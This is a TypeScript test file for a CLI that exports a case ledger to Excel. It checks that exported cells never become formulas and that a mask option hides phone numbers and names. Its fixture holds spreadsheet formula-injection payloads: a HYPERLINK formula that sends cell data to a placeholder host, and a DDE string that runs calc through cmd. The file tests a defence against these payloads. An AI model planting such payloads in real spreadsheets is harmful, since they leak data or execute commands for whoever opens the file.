import path from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { itemFile } from '../fixtures/diagnostics.js';
import { runBbcs, tempLedger } from '../helpers/temp-ledger.js';

/** Text that a spreadsheet would take for a formula if it were written as one. */
const HOSTILE = {
  title: '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
  reason: '+SUM(1,2)',
  name: '-2+3 某公司',
  remark: "@cmd|' /C calc'!A0",
};

async function cellsOf(file: string): Promise<ExcelJS.Cell[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  const cells: ExcelJS.Cell[] = [];
  workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
  return cells;
}

describe('Excel exports never turn text into formulas', () => {
  it.each([
    ['track', (out: string) => ['track', '--unit', 'zjj', '--out', out, '--as-of', '2026-11-26']],
    [
      'weekly',
      (out: string) => ['weekly', '--unit', 'zjj', '--week', '2026-06-01', '--out', out, '--as-of', '2026-11-26'],
    ],
  ] as const)('%s', async (_name, args) => {
    const repo = tempLedger({
      'zjj/ZJJ-2026-0500.yaml': itemFile('ZJJ-2026-0500', {
        title: HOSTILE.title,
        reason: HOSTILE.reason,
        remark: HOSTILE.remark,
        party: { name: HOSTILE.name, kind: '企业', phone: '13900005555' },
        // Reported in the week of 2026-06-01, so the weekly summary of that week lists it.
        events: [
          { type: 'registered', at: '2026-06-01T09:00:00+08:00', by: '测试己' },
          { type: 'confirmed', at: '2026-06-01T10:00:00+08:00', by: '测试己', section: '办公室', consent_by: '测试丁' },
          { type: 'classified', at: '2026-06-01T11:00:00+08:00', by: '测试戊', class: 2 },
          { type: 'reported', at: '2026-06-01T15:00:00+08:00', by: '测试戊', consent_by: '测试局长' },
        ],
      }),
    });
    try {
      const out = path.join(repo.dir, 'out.xlsx');
      const r = runBbcs(args(out), repo.dir);
      expect(r.status, r.stderr).toBe(0);
      const cells = await cellsOf(out);
      expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula !== undefined)).toEqual([]);
      const texts = cells.map((c) => (typeof c.value === 'string' ? c.value : c.text));
      // Each hostile text that the form shows is there as plain text.
      const shown = Object.values(HOSTILE).filter((v) => texts.some((t) => t.includes(v)));
      expect(shown.length, texts.join('\n')).toBeGreaterThan(0);
      for (const cell of cells) {
        if (Object.values(HOSTILE).some((v) => String(cell.text).includes(v)))
          expect(cell.type).toBe(ExcelJS.ValueType.String);
      }
    } finally {
      repo.cleanup();
    }
  });
});

describe('bbcs form --mask', () => {
  it('masks the phone and a private person’s name on the registration form', async () => {
    const repo = tempLedger({
      'zjj/ZJJ-2026-0501.yaml': itemFile('ZJJ-2026-0501', {
        party: { name: '张三丰', kind: '群众', phone: '13912345678' },
      }),
    });
    try {
      const out = path.join(repo.dir, 'form.xlsx');
      const r = runBbcs(['form', 'ZJJ-2026-0501', '--mask', '--out', out], repo.dir);
      expect(r.status, r.stderr).toBe(0);
      const texts = (await cellsOf(out)).map((c) => (typeof c.value === 'string' ? c.value : '')).join('\n');
      expect(texts).toContain('139****5678');
      expect(texts).toContain('张**');
      expect(texts).not.toContain('13912345678');
      expect(texts).not.toContain('张三丰');
    } finally {
      repo.cleanup();
    }
  });
});
